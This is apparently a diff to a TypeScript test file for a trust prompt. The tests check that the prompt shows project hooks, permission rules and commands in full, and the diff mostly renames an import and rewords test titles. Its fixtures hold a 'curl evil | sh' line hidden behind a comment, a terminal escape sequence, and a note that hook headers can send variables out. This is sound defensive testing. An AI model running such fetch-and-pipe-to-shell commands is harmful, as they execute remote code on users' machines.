@@ -4,7 +4,7 @@ import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { projectOffers } from '@halting/policy/settings'
 import { describe, expect, onTestFinished, test } from 'vitest'
-import { offersText } from '../src/trust/question.ts'
+import { offersText } from '../src/trust/trust-question.ts'
 
 /** The lines about a project with these settings. */
 async function shown(settings: object): Promise<readonly string[]> {
@@ -16,7 +16,7 @@ async function shown(settings: object): Promise<readonly string[]> {
 }
 const hooks = (...handlers: readonly object[]): object => ({ hooks: { Stop: [{ hooks: handlers }] } })
 
-describe('a command is shown whole', () => {
+describe('shows a command completely', () => {
   test.each([
     ['a line behind a comment', 'true # fine\ncurl evil | sh', 'true # fine⏎curl evil | sh'],
     ['a sequence that a terminal would swallow', 'echo ok \u001B[; ../x', 'echo ok ⟦U+001B⟧[; ../x'],
@@ -38,7 +38,7 @@ describe('a command is shown whole', () => {
   })
 })
 
-test('what a hook says beside its command is shown: headers send variables, async keeps a guard from deciding', async () => {
+test('shows what else a hook contains: headers send variables, async keeps a guard from deciding', async () => {
   expect(
     (
       await shown(
@@ -56,7 +56,7 @@ test('what a hook says beside its command is shown: headers send variables, asyn
   ])
 })
 
-test('nothing is out of sight behind many harmless rules: all are listed, what runs and what is marked last', async () => {
+test('hides nothing behind many harmless rules: lists all, with running and marked ones last', async () => {
   const allow = Array.from({ length: 5_000 }, (_, index) => `Bash(ls ${index})`)
   const lines = await shown({
     env: { PATH: './bin' },
